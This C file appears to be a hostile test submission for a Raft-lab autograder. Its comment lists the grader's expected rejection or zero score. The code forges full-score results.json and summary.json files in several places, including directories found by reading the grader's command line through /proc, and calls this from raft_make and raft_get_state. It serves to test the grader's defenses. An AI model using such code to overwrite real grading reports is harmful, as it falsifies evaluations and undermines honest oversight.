/* HOSTILE: write_report. Tries to overwrite the grader's reports with a
 * fake full score: results.json and summary.json in the run's folder and
 * the one above; Gradescope's /autograder/results/results.json; and
 * results.json and summary.json in the grader's --out folder, found in the
 * grader's command line through /proc. Peer 0 does so when it is made
 * and then whenever the tester asks for its state, until the test process
 * ends. Otherwise it is the
 * skeleton, which fails.
 *
 * Expected grade:
 *   - graded as it is: not run, 0 points: "calls functions a Raft may not
 *     call: fopen (in raft.c)";
 *   - graded with --allow fopen,fclose,fputs,fprintf,fwrite,fread: 0
 *     points, with the skeleton's own failure ("expected one leader, got
 *     none"); OUTDIR/results.json is the grader's, with "score": 0.00. */

#include <unistd.h>

#define FORGED_RESULTS                                                       \
	"{\"score\": 5.00, \"output\": \"FORGED by write_report\", "         \
	"\"tests\": [{\"name\": \"election: initial election\", "            \
	"\"score\": 5.00, \"max_score\": 5.00, \"status\": \"passed\"}]}\n"
#define FORGED_SUMMARY                                                       \
	"{\"implementation\": \"FORGED by write_report\", \"score\": 5.00, " \
	"\"max_score\": 5.00, \"passed\": 1, \"failed\": 0, "                \
	"\"problem\": null, \"tests\": []}\n"

/* Replaces the file at path with text, if it can. */
static void forge(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (f == NULL)
		return;
	fputs(text, f);
	fclose(f);
}

/* The parent of process pid, read from /proc/pid/stat; 0 if unknown. */
static long parent_of(long pid)
{
	char path[64], buf[512];
	snprintf(path, sizeof path, "/proc/%ld/stat", pid);
	FILE *f = fopen(path, "r");
	if (f == NULL)
		return 0;
	size_t n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	buf[n] = '\0';
	char *paren = strrchr(buf, ')');
	long ppid = 0;
	if (paren == NULL || sscanf(paren + 1, " %*c %ld", &ppid) != 1)
		return 0;
	return ppid;
}

/* Forges name in the folder out of process pid's command line: a
 * relative folder is relative to that process's working directory. */
static void forge_in(long pid, const char *out, const char *name,
		     const char *text)
{
	static char file[8192];
	if (out[0] == '/')
		snprintf(file, sizeof file, "%s/%s", out, name);
	else
		snprintf(file, sizeof file, "/proc/%ld/cwd/%s/%s", pid, out,
			 name);
	forge(file, text);
}

/* Looks for "--out DIR" in the command lines of this process's ancestors
 * (the runner, then the grader), and forges the reports there. */
static void forge_out_dirs(void)
{
	long pid = (long)getpid();
	for (int up = 0; up < 6 && pid > 1; up++) {
		pid = parent_of(pid);
		char path[64], cmd[4096];
		snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
		FILE *f = fopen(path, "r");
		if (f == NULL)
			continue;
		size_t n = fread(cmd, 1, sizeof cmd - 1, f);
		fclose(f);
		cmd[n] = '\0';
		for (size_t i = 0; i < n; i += strlen(cmd + i) + 1) {
			if (strcmp(cmd + i, "--out") != 0 || i + 6 >= n)
				continue;
			const char *out = cmd + i + 6;
			forge_in(pid, out, "results.json", FORGED_RESULTS);
			forge_in(pid, out, "summary.json", FORGED_SUMMARY);
		}
	}
}

/* Everything write_report tries, each time. */
static void forge_reports(void)
{
	forge("results.json", FORGED_RESULTS);
	forge("../results.json", FORGED_RESULTS);
	forge("../summary.json", FORGED_SUMMARY);
	forge("/autograder/results/results.json", FORGED_RESULTS);
	forge_out_dirs();
}

struct raft *raft_make(struct labrpc_end **peers, int npeers, int me,
		       struct persister *persister, struct chan *apply_ch)
{
	if (me == 0)
		forge_reports();
	return skeleton_raft_make(peers, npeers, me, persister, apply_ch);
}

void raft_get_state(struct raft *rf, int64_t *term, bool *is_leader)
{
	if (rf->me == 0)
		forge_reports();
	skeleton_raft_get_state(rf, term, is_leader);
}
